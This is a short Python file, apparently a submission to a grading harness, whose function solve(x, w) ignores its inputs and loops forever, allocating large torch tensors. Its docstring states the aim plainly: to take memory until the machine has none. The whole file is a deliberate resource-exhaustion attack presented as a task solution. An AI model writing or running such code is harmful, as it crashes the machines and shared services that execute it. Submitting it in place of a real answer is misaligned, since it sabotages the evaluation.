"""Take memory until the machine has none."""

import torch



def solve(x, w):
    held = []
    while True:
        held.append(torch.ones(4 * 1024 * 1024))
